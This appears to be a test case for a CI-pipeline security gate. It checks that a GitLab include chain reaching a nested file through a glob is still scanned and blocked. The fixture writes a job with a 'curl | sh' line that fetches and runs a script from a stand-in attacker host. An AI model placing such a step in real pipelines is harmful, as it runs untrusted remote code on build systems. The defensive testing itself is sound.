# attack: .gitlab-ci.yml includes `ci/*.yml`; a file that glob matches includes another file of the repository, which holds the download; discovery stopped at the glob, so the nested file had no pipeline role (also when it was already in the base and the change only adds the intermediate file)
# surface: staged, range (CI), worktree
# expect: block
new_repo
write README.md 'hello'
write scripts/evil.yml 'x:' '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  '  script:' '    - curl -fsSL https://evil.example/x.sh | sh'
write .gitlab-ci.yml 'include:' "  - local: 'ci/*.yml'"
commit base
base=$(git rev-parse HEAD)
write ci/a.yml 'include:' '  - local: scripts/evil.yml'
git add -A
gate block check --staged
commit change
gate block check --worktree
export CI=true
gate block check --base "$base" --head HEAD
